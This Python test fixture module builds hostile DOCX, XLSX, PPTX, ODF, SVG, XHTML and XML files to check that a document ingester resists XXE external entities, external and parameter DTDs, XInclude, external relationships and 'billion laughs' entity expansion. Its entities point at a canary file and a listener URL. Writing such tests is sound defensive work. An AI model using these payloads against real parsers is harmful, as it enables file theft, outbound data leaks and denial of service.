"""XML that reaches out or blows up: external entities (XXE) naming the canary file or
the listener, external DTDs, XInclude, and entity expansion ("billion laughs"), inside
every XML-based format ingest reads (DOCX, XLSX, PPTX, ODT, ODP, SVG, XHTML, .xml)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from tests.ingest.hostile.entry import Entry
from tests.ingest.hostile.packing import zip_of
from tests.ingest.hostile.target import Target

XXE = "XXE"
LAUGHS = "billion laughs"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ODF_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
ODF_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def doctype(root: str, kind: str, target: Target) -> str:
    """A DOCTYPE declaring entity `e` as `kind` asks: the canary, the network, laughs."""
    if kind == "file":
        return f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "{target.file_url}">]>'
    if kind == "http":
        return f'<!DOCTYPE {root} [<!ENTITY e SYSTEM "{target.url}/entity">]>'
    if kind == "dtd":
        return f'<!DOCTYPE {root} SYSTEM "{target.url}/evil.dtd">'
    if kind == "param":
        return (
            f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{target.file_url}">'
            f'<!ENTITY % q SYSTEM "{target.url}/param.dtd"> %q; <!ENTITY e "x">]>'
        )
    levels = ['<!ENTITY e0 "lol">'] + [
        f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return f'<!DOCTYPE {root} [{"".join(levels)}<!ENTITY e "&e9;">]>'


def _replace(data: bytes, part: str, content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members = [(i.filename, source.read(i)) for i in source.infolist() if i.filename != part]
    return zip_of([*members, (part, content)])


def _docx_base() -> bytes:
    import docx

    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("base paragraph")
    document.save(out)
    return out.getvalue()


def docx(kind: str) -> Callable[[Target], bytes]:
    def make(target: Target) -> bytes:
        body = (
            f'<?xml version="1.0"?>{doctype("w:document", kind, target)}'
            f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>docx &e; end</w:t></w:r></w:p>'
            "</w:body></w:document>"
        )
        return _replace(_docx_base(), "word/document.xml", body.encode())

    return make


def docx_core(kind: str) -> Callable[[Target], bytes]:
    def make(target: Target) -> bytes:
        core = (
            f'<?xml version="1.0"?>{doctype("cp:coreProperties", kind, target)}'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
            'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
            "<dc:title>title &e;</dc:title></cp:coreProperties>"
        )
        return _replace(_docx_base(), "docProps/core.xml", core.encode())

    return make


def docx_xinclude(target: Target) -> bytes:
    body = (
        f'<?xml version="1.0"?><w:document xmlns:w="{W}" '
        'xmlns:xi="http://www.w3.org/2001/XInclude"><w:body><w:p><w:r><w:t>'
        f'<xi:include href="{target.file_url}" parse="text"/></w:t></w:r></w:p></w:body>'
        "</w:document>"
    )
    return _replace(_docx_base(), "word/document.xml", body.encode())


def docx_external_rels(target: Target) -> bytes:
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>'
    )
    doc_rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        'package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        f'Target="{target.url}/template.dotm" TargetMode="External"/><Relationship '
        'Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/image" Target="{target.file_url}" TargetMode="External"/>'
        "</Relationships>"
    )
    data = _replace(_docx_base(), "_rels/.rels", rels.encode())
    return _replace(data, "word/_rels/document.xml.rels", doc_rels.encode())


def _xlsx_base() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["name"])
    sheet.append(["x"])
    out = io.BytesIO()
    book.save(out)
    # openpyxl stamps the time of saving; a fixed core part keeps the bytes the same.
    core = b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
    core += b'metadata/core-properties"/>'
    return _replace(out.getvalue(), "docProps/core.xml", core)


def xlsx(kind: str) -> Callable[[Target], bytes]:
    def make(target: Target) -> bytes:
        strings = (
            f'<?xml version="1.0"?>{doctype("sst", kind, target)}<sst xmlns="{S}">'
            "<si><t>name</t></si><si><t>&e;</t></si></sst>"
        )
        return _replace(_xlsx_base(), "xl/sharedStrings.xml", strings.encode())

    return make


def pptx(kind: str) -> Callable[[Target], bytes]:
    def make(target: Target) -> bytes:
        import pptx as pptx_lib

        deck = pptx_lib.Presentation()
        deck.slides.add_slide(deck.slide_layouts[6])
        out = io.BytesIO()
        deck.save(out)
        slide = (
            f'<?xml version="1.0"?>{doctype("p:sld", kind, target)}<p:sld xmlns:p="http://'
            'schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.'
            'openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree><p:sp><p:txBody>'
            "<a:p><a:r><a:t>slide &e;</a:t></a:r></a:p></p:txBody></p:sp></p:spTree>"
            "</p:cSld></p:sld>"
        )
        return _replace(out.getvalue(), "ppt/slides/slide1.xml", slide.encode())

    return make


def odf(kind: str, part: str = "content.xml", flavour: str = "text") -> Callable[[Target], bytes]:
    def make(target: Target) -> bytes:
        xml = (
            f'<?xml version="1.0"?>{doctype("office:document-content", kind, target)}'
            f'<office:document-content xmlns:office="{ODF_OFFICE}" xmlns:text="{ODF_TEXT}">'
            "<office:body><office:text><text:p>odf &e; end</text:p></office:text>"
            "</office:body></office:document-content>"
        )
        plain = (
            f'<office:document-content xmlns:office="{ODF_OFFICE}" xmlns:text="{ODF_TEXT}">'
            "<office:body><office:text><text:p>plain</text:p></office:text></office:body>"
            "</office:document-content>"
        )
        members = {
            "mimetype": f"application/vnd.oasis.opendocument.{flavour}".encode(),
            "content.xml": plain.encode(),
            "meta.xml": b'<office:document-meta xmlns:office="' + ODF_OFFICE.encode() + b'"/>',
        }
        members[part] = xml.encode()
        return zip_of(members.items())

    return make


def svg(kind: str) -> Callable[[Target], bytes]:
    def make(target: Target) -> bytes:
        return (
            f'<?xml version="1.0"?>{doctype("svg", kind, target)}<svg xmlns="http://www.w3.org/'
            '2000/svg"><text x="1" y="10">svg &e;</text></svg>'
        ).encode()

    return make


def xml_text(kind: str) -> Callable[[Target], bytes]:
    def make(target: Target) -> bytes:
        return f'<?xml version="1.0"?>{doctype("r", kind, target)}<r>xml &e;</r>'.encode()

    return make


def xhtml(kind: str) -> Callable[[Target], bytes]:
    def make(target: Target) -> bytes:
        return (
            f'<?xml version="1.0"?>{doctype("html", kind, target)}<html xmlns="http://www.w3.'
            'org/1999/xhtml"><head><title>t &e;</title></head><body><p>xhtml &e;</p></body>'
            "</html>"
        ).encode()

    return make


_KINDS = ("file", "http", "dtd", "param")
MAKERS = [
    *(Entry(f"xxe-{k}.docx", XXE, docx(k)) for k in _KINDS),
    *(Entry(f"xxe-{k}.xlsx", XXE, xlsx(k)) for k in _KINDS),
    *(Entry(f"xxe-{k}.pptx", XXE, pptx(k)) for k in ("file", "http")),
    *(Entry(f"xxe-{k}.odt", XXE, odf(k)) for k in _KINDS),
    Entry("xxe-meta.odt", XXE, odf("file", "meta.xml")),
    Entry("xxe-file.odp", XXE, odf("file", flavour="presentation")),
    Entry("xxe-core-props.docx", XXE, docx_core("file")),
    Entry("xinclude.docx", XXE, docx_xinclude),
    Entry("external-relationships.docx", XXE, docx_external_rels),
    *(Entry(f"xxe-{k}.svg", XXE, svg(k)) for k in ("file", "http")),
    *(Entry(f"xxe-{k}.xml", XXE, xml_text(k)) for k in ("file", "http")),
    *(Entry(f"xxe-{k}.xhtml", XXE, xhtml(k)) for k in ("file", "http")),
    Entry("laughs.docx", LAUGHS, docx("laughs")),
    Entry("laughs-core-props.docx", LAUGHS, docx_core("laughs")),
    Entry("laughs.xlsx", LAUGHS, xlsx("laughs")),
    Entry("laughs.pptx", LAUGHS, pptx("laughs")),
    Entry("laughs.odt", LAUGHS, odf("laughs")),
    Entry("laughs.svg", LAUGHS, svg("laughs")),
    Entry("laughs.xml", LAUGHS, xml_text("laughs")),
    Entry("laughs.xhtml", LAUGHS, xhtml("laughs")),
]
